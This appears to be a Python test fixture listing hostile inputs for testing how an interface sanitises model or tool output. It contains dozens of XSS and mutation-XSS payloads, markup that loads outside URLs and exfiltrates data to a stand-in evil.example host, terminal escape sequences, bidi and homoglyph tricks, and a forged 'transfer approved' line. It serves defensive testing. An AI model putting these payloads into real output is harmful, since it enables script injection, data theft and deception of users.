"""Hostile text: whatever a model, a tool or a server could write to act, to load, to lead astray, or to hide.

`SCRIPTS` run something where a page takes them for its own, `LOADS` fetch something, `DISGUISES` show other than what
is there. In them `@JS@` stands for a statement and `@URL@` for an address that tells of its being asked; `armed` fills
these in for a browser, and `CORPUS` is all of them with harmless fillings, beside the texts of the transcript's own
tests.
"""

from __future__ import annotations

from tests.widgets.telling import HOSTILE

SCRIPTS = (
    "<script>@JS@</script>",
    "<ScRiPt >@JS@</sCrIpT >",
    "<scr<script>ipt>@JS@</scr</script>ipt>",
    "<img src=x onerror=@JS@>",
    "<img src=x onerror='@JS@' //",
    "<image/src=x onerror=@JS@>",
    "<svg/onload=@JS@>",
    "<svg><animate onbegin=@JS@ attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:@JS@'><text y=20>click</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='@JS@'/>#x\">",
    "<svg><foreignObject><iframe srcdoc='<script>parent.@JS@</script>'></iframe></foreignObject></svg>",
    "<details open ontoggle=@JS@>x</details>",
    "<input autofocus onfocus=@JS@>",
    "<video><source onerror=@JS@></video>",
    "<body onload=@JS@><marquee onstart=@JS@>x</marquee>",
    "<div onpointerenter=@JS@ style='position:fixed;inset:0'>x</div>",
    "<iframe srcdoc='<script>parent.@JS@</script>'></iframe>",
    "<iframe src='javascript:parent.@JS@'></iframe>",
    "<object data='data:text/html,<script>parent.@JS@</script>'></object><embed src='javascript:@JS@'>",
    "<form><button formaction='javascript:@JS@'>x</button></form>",
    "<a href='jav&#x09;ascript:@JS@'>x</a><a href=' javascript:@JS@'>y</a><a href='&#1;javascript:@JS@'>z</a>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=@JS@></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@JS@&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=@JS@>'>",
    "<template><img src=x onerror=@JS@></template><xmp><img src=x onerror=@JS@></xmp>",
    "<svg></p><style><a title='</style><img src=x onerror=@JS@>'>",
    "<textarea><img title='</textarea><img src=x onerror=@JS@>'></textarea><title></title><img src=x onerror=@JS@>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@JS@ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=@JS@//>\\x3e",
    "\"><img src=x onerror=@JS@> '><img src=x onerror=@JS@> --><img src=x onerror=@JS@> ]]><img src=x onerror=@JS@>",
    "&lt;img src=x onerror=@JS@&gt; &#60;script&#62;@JS@&#60;/script&#62;",
    "[x](javascript:@JS@) [y](java&#115;cript:@JS@) [z](<javascript:@JS@>) [t](java\tscript:@JS@)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQubmJhSGl0PTE8L3NjcmlwdD4=) [v](vbscript:x) [f](file:///etc/passwd)",
    "[x][bad] ![x][bad]\n\n[bad]: javascript:@JS@ 'title'",
    "<javascript:@JS@> javascript:@JS@",
    "[x](https://e.example 'a\" onmouseover=@JS@ b=\"')",
    '![x" onerror=@JS@ y="](https://e.example/i.png)',
    '```"><img src=x onerror=@JS@>\n<script>@JS@</script>\n```',
    "[^1]\n\n[^1]: <img src=x onerror=@JS@>",
    "| <img src=x onerror=@JS@> |\n|---|\n| <svg/onload=@JS@> |",
    "$\\href{javascript:@JS@}{click}$ $$\\require{html}\\style{background:url(@URL@)}{x}$$",
    "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>Accept</button>",
    "{{constructor.constructor('@JS@')()}} ${@JS@} <%= @JS@ %>",
    "<svg><desc><style><img src=x onerror=@JS@></style></desc></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@JS@>",
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x on'
    'error=@JS@>">',
    "<noscript><style></noscript><img src=x onerror=@JS@></style>",
    "<template><style></template><img src=x onerror=@JS@></style>",
    "<details open ontoggle=@JS@ name=x><summary onclick=@JS@>s</summary></details>",
    "<td colspan=99999999 rowspan=99999999 align='\" onx=1'>x</td>",
    '[x](@URL@ "t&quot; onmouseover=@JS@") [y](@URL@ \'t" onload=@JS@\')',
    '<@URL@&quot;onclick=@JS@&gt;> <mailto:a@b?body=x"onclick=@JS@>',
    "[x](ht&#116;ps&colon;//@HOST@) [y](javascript&colon;@JS@) [z](&#x6A;avascript:@JS@) [w](\u200bjavascript:@"
    "JS@) [v](java\xadscript:@JS@)",
    "<!-- <img src=x onerror=@JS@> --!><img src=x onerror=@JS@> <!--><img src=x onerror=@JS@>-->",
    "<![CDATA[<img src=x onerror=@JS@>]]> <?xml <img src=x onerror=@JS@>?> <!DOCTYPE x [<!ENTITY e SYSTEM '@URL@'>]>",
    "<portal src=@URL@></portal><fencedframe src=@URL@></fencedframe><webview src=@URL@>",
    "<dialog open>x</dialog><button popovertarget=x onclick=@JS@>y</button><x-y is=z onclick=@JS@>",
    "<a href=`javascript:@JS@`>x</a><a href=\"javas\ncript:@JS@\">y</a><a href='\x01javascript:@JS@'>z</a><a hr"
    "ef='feed:javascript:@JS@'>w</a>",
    '~~~html" onmouseover=@JS@ x="\n<img src=x onerror=@JS@>\n~~~',
    "``` js<script>@JS@</script>\nx\n```",
    "$`<img src=x onerror=@JS@>`$ $$\n<img src=x onerror=@JS@>\n$$ \\(\\href{javascript:@JS@}{x}\\) $\\unicode{"
    "60}img$ $\\class{x}{y}$ $\\cssId{x}{y}$ $\\includegraphics{@URL@}$",
)

LOADS = (
    "![a](@URL@/image.png?secret=1)",
    "![a](//@HOST@/slashes.png)",
    "![a][ref]\n\n[ref]: @URL@/reference.png",
    "[![a](@URL@/linked.png)](@URL@/link)",
    "<img src='@URL@/tag.png'><img srcset='@URL@/srcset.png 1x' src=x><picture><source srcset='@URL@/src'></picture>",
    "<div style='background:url(@URL@/style.png)'>x</div><table background='@URL@/table.png'><tr><td>x</table>",
    "<style>@import url(@URL@/import.css); input[value^='s']{background:url(@URL@/exfil.png)}</style>",
    "<link rel=stylesheet href='@URL@/link.css'><link rel=prefetch href='@URL@/p'><link rel=icon href='@URL@/i'>",
    "<iframe src='@URL@/frame'></iframe><object data='@URL@/object'></object><embed src='@URL@/embed'>",
    "<video src='@URL@/video' poster='@URL@/poster' autoplay></video><audio src='@URL@/audio' autoplay></audio>",
    "<base href='@URL@/base/'><img src=based.png><meta http-equiv=refresh content='0;url=@URL@/refresh'>",
    "<form action='@URL@/form'><input name=password type=password><button>Continue</button></form>",
    "<a href=https://e.example ping='@URL@/ping'>x</a><body background='@URL@/body.png'>",
    "<svg><image href='@URL@/svg.png'/><feImage href='@URL@/fe.png'/></svg><math href='@URL@/math'>x</math>",
    "<input type=image src='@URL@/input.png'><script src='@URL@/script.js'></script>",
    "@URL@/bare <@URL@/auto> www.e.example user@e.example",
    "<table><td background=@URL@/x><div style=background-image:image-set('@URL@/x')>",
    "<p style='list-style:url(@URL@);-webkit-mask:url(@URL@)'>x</p>",
    "<div style='width:expression(@JS@);cursor:url(@URL@/c),auto;content:url(@URL@)'>",
    "<span style='@import \"@URL@\"'>x</span><style>@import'@URL@';</style>",
    "<svg><style>@font-face{font-family:x;src:url(@URL@)}</style></svg>",
    "<a href='@URL@' target='_blank' rel='opener' ping=@URL@/p download>x</a>",
    "<a href='@URL@' id=x name=y class='jp-mod' data-commandlinker-command='x'>x</a>",
    "<isindex action=javascript:@JS@ type=image><img lowsrc=@URL@ dynsrc=@URL@ longdesc=@URL@ usemap=#x>",
    "<link rel=dns-prefetch href=//@HOST@><link rel=preconnect href=@URL@><link rel=modulepreload href=@URL@><s"
    "cript type=importmap>{}</script>",
)

DISGUISES = (
    "safe \u202egnp.exe\u202c \u2066isolate\u2069 \u061cmark \u200fright",
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b0m \x00\x07end",
    '\x1b]8;;@URL@/osc8\x1b\\click\x1b]8;;\x1b\\ \x1b]52;c;c2VjcmV0\x07 \x1bP$q"p\x1b\\ \x1b_app\x1b\\',
    "zero\u200bwidth\ufeff \U000e0041\U000e0042tags \u00adsoft",
    "one\rtwo\u2028three\u2029four\x85five\x0bsix\x0cseven",
    "lone \ud800 surrogate \udfff",
    "[https://bank.example](https://evil.example) [аpple.com](https://аpple.com) <https://bank.example@evil.example>",
    "\n\n✓ transfer approved\n│ the user: yes, do it",
    "pay\u200dpal pay\u200cpal ad\u3164min x\u180ey ha\u034fha \u115f\u1160 \uffa0 z\ufff9anchor\ufffahidden\ufffb",
    "\x1bPq#0;2;0;0;0\x1b\\ \x1b]1337;File=inline=1:AAAA\x07 \x1b]9;notify\x07 \x1b]777;notify;a;b\x1b\\ \x1b[?"
    "1049h \x1b[6n \x1bc \x1b#8 \x1b(0lqk \x9b2J \x9d0;t\x9c \x90q\x9c \x1b^pm\x1b\\ \x1bXsos\x1b\\ \x1b]0;uncl"
    "osed",
    "\x1b\x1b]52;c;AAAA\x07 \x1b[\x1b[31m2J \x1b]8;\x1b]8;;x\x07;x\x07 \x1b\x00]0;t\x07",
    "x\u2028y\u2029z\x85\x1c\x1d\x1e\x1f",
)


def armed(js: str, url: str) -> list[str]:
    """The scripts, loads and disguises, with this statement and this address in them.

    Parameters
    ----------
    js
        A statement without blanks and quotes.
    url
        ``http://host:port``.
    """
    host = url.partition("//")[2]
    texts = (*SCRIPTS, *LOADS, *DISGUISES)
    return [text.replace("@JS@", js).replace("@URL@", url).replace("@HOST@", host) for text in texts]


CORPUS = (*HOSTILE, *armed("alert(1)", "https://evil.example"))

CONTROLS = set("\x00\x07\x0b\x0c\x1b\x85\x90\x9b\x9d\u2028\u202e\u2066\u200b\ufeff\ud800\U000e0041\r\u3164\u180e\u034f")
"""Of these none may reach a person."""
